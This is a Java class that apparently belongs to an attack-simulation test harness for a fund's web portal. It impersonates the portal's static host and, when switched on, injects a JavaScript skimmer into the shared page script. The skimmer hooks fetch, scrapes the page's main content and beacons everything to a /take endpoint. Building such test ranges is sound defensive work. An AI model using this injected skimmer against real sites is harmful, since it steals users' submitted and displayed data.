package be.mijnfonds.range.row;

import be.mijnfonds.journal.json.Json;
import be.mijnfonds.range.aim.Ours;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The pages' host in an adversary's hands, in the place of the real one. It serves every file and header as they were
 * released, until it alters the one script that all pages run; then to everybody alike.
 */
public final class AlteredHost implements AutoCloseable {
    /**
     * Sends home all that the page asks of the portal and all that it shows. The policy lets pictures come from the pages' own
     * host, and that is the adversary's: no header has to be touched.
     */
    private static final String EVIL = """
            (() => {
              const send = text => {
                for (let i = 0; i < text.length; i += 2500)
                  new Image().src = '/take?' + encodeURIComponent(text.slice(i, i + 3000));
              };
              const ask = globalThis.fetch;
              globalThis.fetch = (to, how) => {
                if (typeof how?.body === 'string') send(how.body);
                return ask(to, how);
              };
              let last = '';
              setInterval(() => {
                const seen = document.querySelector('main')?.textContent ?? '';
                if (seen !== last) send(last = seen);
              }, 100);
            })();
            """;

    private static final Map<String, String> TYPES = Map.of(
            "html", "text/html; charset=utf-8",
            "css", "text/css; charset=utf-8",
            "js", "text/javascript; charset=utf-8",
            "json", "application/json",
            "svg", "image/svg+xml",
            "woff2", "font/woff2");

    private final Ours ours;
    private final Attack attack;
    private final HttpServer server;
    private final Map<String, byte[]> files = new HashMap<>();
    private final Json.Obj headers;
    private final AtomicInteger taken = new AtomicInteger();
    private volatile boolean altered;

    private AlteredHost(Ours ours, Attack attack) throws IOException {
        this.ours = ours;
        this.attack = attack;
        var site = ours.fund().layout().site();
        try (var all = Files.walk(site)) {
            for (var file : all.filter(Files::isRegularFile).toList()) files.put(address(site, file), bytes(file));
        }
        headers = (Json.Obj) Json.parse(bytes(site.resolve("headers.json")));
        var port = ours.fund().ports().pages();
        server = HttpServer.create(new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), port), 0);
        server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        server.createContext("/", this::answer);
        server.start();
    }

    public static AlteredHost inPlaceOf(Ours ours, Attack attack) throws IOException {
        ours.fund().child("pages").stop();
        return new AlteredHost(ours, attack);
    }

    public void alter(boolean altered) {
        this.altered = altered;
    }

    private static byte[] bytes(Path file) throws IOException {
        return Files.readAllBytes(file);
    }

    private static String address(Path site, Path file) {
        return "/" + site.relativize(file).toString().replaceFirst("(^|/)index\\.html$", "$1");
    }

    private void answer(HttpExchange exchange) throws IOException {
        try (exchange) {
            var path = exchange.getRequestURI().getRawPath();
            if (path.equals("/take")) {
                take(exchange.getRequestURI().getRawQuery());
                exchange.sendResponseHeaders(204, -1);
                return;
            }
            headers(path)
                    .fields()
                    .forEach((name, value) ->
                            exchange.getResponseHeaders().set(name, value instanceof Json.Text(var text) ? text : ""));
            if (path.equals("/")) {
                exchange.getResponseHeaders().set("Location", "/nl/");
                exchange.sendResponseHeaders(302, -1);
                return;
            }
            var there = files.containsKey(path);
            send(exchange, there ? 200 : 404, there ? path : "/nl/404/");
        }
    }

    private Json.Obj headers(String path) {
        var own = headers.get("files") instanceof Json.Obj each ? each.get(path.substring(1) + "index.html") : null;
        return (Json.Obj) (own == null ? Json.Fields.of(headers).need("all") : own);
    }

    private void send(HttpExchange exchange, int status, String path) throws IOException {
        var body = files.getOrDefault(path, new byte[0]);
        if (altered && path.startsWith("/assets/opener."))
            body = (EVIL + new String(body, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
        var end = path.endsWith("/") ? "html" : path.substring(path.lastIndexOf('.') + 1);
        exchange.getResponseHeaders().set("Content-Type", TYPES.getOrDefault(end, "text/plain; charset=utf-8"));
        // Else a browser would go on with what it has: an adversary has no use for that.
        exchange.getResponseHeaders().set("Cache-Control", "no-store");
        exchange.sendResponseHeaders(status, body.length == 0 ? -1 : body.length);
        exchange.getResponseBody().write(body);
    }

    private void take(String query) throws IOException {
        attack.keep("sent/" + taken.incrementAndGet(), URLDecoder.decode(query, StandardCharsets.UTF_8));
    }

    /** The fund puts its own host back. */
    @Override
    public void close() {
        server.stop(0);
        ours.fund().child("pages").start();
        ours.fund().child("pages").awaitReady();
    }
}
